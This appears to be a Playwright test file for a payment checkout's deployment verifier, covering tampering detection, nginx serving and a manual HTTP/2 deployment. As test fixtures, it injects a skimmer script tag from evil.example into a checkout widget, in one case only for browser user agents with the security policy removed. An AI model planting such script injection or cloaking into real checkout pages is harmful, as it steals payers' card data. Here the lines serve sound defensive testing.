import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { payByCard } from './pages/card-form';
import { deployByHand, overHttp2 } from './deploying-by-hand';
import { root, verify, verifyTrusting, withNginx, withTampering } from './deployment';
import { cards, urls } from './environment';
import { openBy } from './pages/host-page';
import { expect, test } from './pages/store-page';
import { pressToClose } from './pages/press-to-close';

test('verify-deployment finds no difference, and then a changed byte, header and script', async () => {
  const clean = await verify(urls.checkout);
  expect(clean.lines.at(-1)).toMatch(/: \d{3} addresses looked at, nothing differs\.$/);
  expect(clean.code).toBe(0);
  await withTampering(
    urls.checkout,
    (path, answer) => {
      if (/^\/assets\/flow-cash-\w+\.js$/.test(path)) answer.body = answer.body.replace('a', 'b');
      if (path === '/v1.2.3/checkout.js') answer.headers.delete('access-control-allow-origin');
      if (path === '/pf/widget') answer.body += '<script src="https://evil.example/skim.js"></script>';
    },
    async (url) => {
      const found = await verify(url, '--json');
      const { differences } = JSON.parse(found.lines.join('\n')) as {
        differences: { path: string; problem: string }[];
      };
      expect(differences.map(({ path, problem }) => `${path} ${problem}`).sort()).toEqual([
        expect.stringMatching(/^\/assets\/flow-cash-\w+\.js is not what was released: \d+ bytes/),
        expect.stringMatching(/^\/pf\/widget is not what was released/),
        '/pf/widget loads https://evil.example/skim.js, which the manifest does not name',
        '/v1.2.3/checkout.js has no access-control-allow-origin',
      ]);
      expect(found.code).toBe(1);
    },
  );
  expect((await verify('not-an-address')).code).toBe(2);
});

// Opens every page of the checkout.
test('verify-deployment finds what only browsers get, and in a browser what ran', async () => {
  test.slow();
  const skimmer = 'https://evil.example/skim.js';
  await withTampering(
    urls.checkout,
    (path, answer, { headers }) => {
      if (path === '/pf/widget' && headers['user-agent']?.startsWith('Mozilla'))
        answer.body += `<script src="${skimmer}"></script><script>window.skimmed = true</script>`;
      // The page's policy would block both scripts.
      if (path === '/pf/widget' && headers['sec-fetch-mode'] === 'navigate')
        answer.headers.delete('content-security-policy');
    },
    async (url) => {
      const asBrowser = await verify(url);
      expect(asBrowser.code).toBe(1);
      expect(asBrowser.lines).toContain(
        `/pf/widget: for Chrome, loads ${skimmer}, which the manifest does not name`,
      );
      const inBrowser = await verify(url, '--browser', process.env['CHROMIUM_PATH'] ?? '');
      expect(inBrowser.lines).toEqual(
        expect.arrayContaining([
          `/pf/widget: in Chromium, loads ${skimmer}, which the manifest does not name`,
          expect.stringMatching(/^\/pf\/widget: in Chromium, is not what was released/),
          `/pf/widget: in Chromium, requested ${skimmer}, whose origin is not in config.js`,
          '/pf/widget: in Chromium, ran code that is in no file, which begins "window.skimmed = true"',
          expect.stringMatching(/^Scripts that ran in Chromium: .*\/assets\/main-\w+\.js/),
        ]),
      );
      // The browser run reports no other difference.
      expect(inBrowser.lines.filter((line) => line.includes('in Chromium, '))).toHaveLength(5);
    },
  );
});

test('nginx serves the files in front of the provider: nothing differs, and a card payment succeeds', async ({
  context,
  page,
}) => {
  const violations: string[] = [];
  page.on('console', (message) => {
    const text = message.text();
    // The sandbox behind nginx knows only its own checkout, so its page of third parties rejects this one.
    if (text.startsWith(`Framing '${urls.bank}/' violates`)) return;
    if (/Content.Security.Policy/i.test(text)) violations.push(text);
  });
  const shop = urls.store;
  // The demo store's own policy allows only the sandbox's origin, so this is another page. It needs the
  // permission because a page that no server sent does not count as local.
  await context.grantPermissions(['local-network-access']);
  await page.route(`${shop}/tienda`, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Una tienda</title>' }),
  );
  await withNginx({ provider: urls.checkout, holder: shop }, async (checkout, errors) => {
    const verified = await verify(checkout);
    expect(verified.lines.at(-1)).toMatch(/nothing differs\.$/);
    await page.goto(`${shop}/tienda`);
    await page.addScriptTag({ url: `${checkout}/v1/checkout.js` });
    const result = openBy(page, { code: 'LK-CAFE0001' });
    const frame = page.frameLocator('iframe');
    await payByCard(frame, cards.visa);
    await expect(frame.getByRole('heading', { name: 'Comprobante de pago' })).toBeVisible();
    expect(new URL(page.frames()[1]?.url() ?? '').origin).toBe(checkout);
    await pressToClose(frame.getByRole('button', { name: 'Volver a Café Boquete' }));
    expect(await result).toMatchObject({ outcome: 'approved', paid: true });
    // The first checkout leaves the page as it was, its history too, before another one is opened.
    await expect(page.locator('iframe')).toHaveCount(0);
    await expect
      .poll(() => page.evaluate(() => Object.keys((history.state ?? {}) as object)))
      .not.toContain('istmo');
    // No merchant has this code, so no merchant allows this page's origin. The server's own list allows it.
    const failed = await openBy(page, { code: 'LK-NOBODY99' });
    expect(failed).toMatchObject({ outcome: 'failed', reason: 'link_not_found' });
    await expect(page.getByRole('button', { name: 'Cerrar' })).toBeHidden();
    await pressToClose(frame.getByRole('button', { name: 'Cerrar' }));
    await expect(page.locator('iframe')).toHaveCount(0);
    expect(await page.evaluate(connects, `${checkout.replace('http', 'ws')}/api/v1/pushes`)).toBe(true);
    const framedBy = (origin: string) =>
      page.request.get(`${checkout}/pf/widget`, { params: { type: 'lk', code: 'LK-CAFE0001', origin } });
    expect((await framedBy(shop)).headers()['content-security-policy']).toContain(`frame-ancestors ${shop};`);
    const elsewhere = await framedBy('https://evil.example');
    expect([elsewhere.status(), await elsewhere.text()]).toEqual([
      403,
      expect.stringContaining('origin_not_allowed'),
    ]);
    const tooLarge = { params: { email: 'ana@x.example' }, data: 'x'.repeat(70_000) };
    expect((await page.request.post(`${checkout}/api/v1/nothing`, tooLarge)).status()).toBe(413);
    expect(errors.filter((line) => line.includes('ana@x.example'))).toEqual([]);
    expect(violations).toEqual([]);
  });
});

const CONFIG = `window.istmoConfig = {
  defaults: {
    clientKey: 'istmo-sandbox-client',
    supportEmail: 'help@pay.example',
    captchaAlwaysAccepted: true,
  },
  environments: { test: { hosts: ['localhost'] } },
};`;

test.describe('by hand', () => {
  // The certificate is the test's own.
  test.use({ ignoreHTTPSErrors: true });

  test('a provider who follows the docs on Debian serves over HTTP/2 with brotli, and a shop is paid through it', async ({
    context,
    page,
  }) => {
    test.slow();
    const shop = urls.store;
    await context.grantPermissions(['local-network-access']);
    await page.route(`${shop}/tienda`, (route) =>
      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Una tienda</title>' }),
    );
    await deployByHand({ provider: urls.checkout, holder: shop, config: CONFIG }, async (served) => {
      const { url, certificate } = served;
      const list = JSON.parse(
        readFileSync(join(root, 'packages/checkout/dist/app/scripts.json'), 'utf8'),
      ) as { scripts: { path: string; bytes: number }[] };
      const assets = list.scripts.filter(
        ({ path, bytes }) => /^\/assets\/.*\.(js|css)$/.test(path) && bytes >= 1024,
      );
      expect(assets.length).toBeGreaterThan(50);
      for (const { path } of assets.slice(0, 10))
        expect(await overHttp2(url, path)).toEqual({ status: 200, encoding: 'br' });
      const verified = await verifyTrusting(certificate, url);
      expect(verified.lines.at(-1)).toMatch(/nothing differs\.$/);

      await page.goto(`${shop}/tienda`);
      await page.addScriptTag({ url: `${url}/v1/checkout.js` });
      const result = openBy(page, { code: 'LK-CAFE0001' });
      const frame = page.frameLocator('iframe');
      await payByCard(frame, cards.visa);
      await expect(frame.getByRole('heading', { name: 'Comprobante de pago' })).toBeVisible();
      const checkout = page.frames().find((one) => one.url().startsWith(url));
      const protocols = await checkout?.evaluate(() =>
        performance
          .getEntriesByType('resource')
          .map((entry) => (entry as PerformanceResourceTiming).nextHopProtocol),
      );
      expect(protocols).toContain('h2');
      expect(protocols).not.toContain('http/1.1');
      await pressToClose(frame.getByRole('button', { name: 'Volver a Café Boquete' }));
      expect(await result).toMatchObject({ outcome: 'approved', paid: true });
    });
  });
});

function connects(url: string): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = new WebSocket(url);
    socket.onopen = () => {
      socket.close();
      resolve(true);
    };
    socket.onerror = () => {
      resolve(false);
    };
  });
}
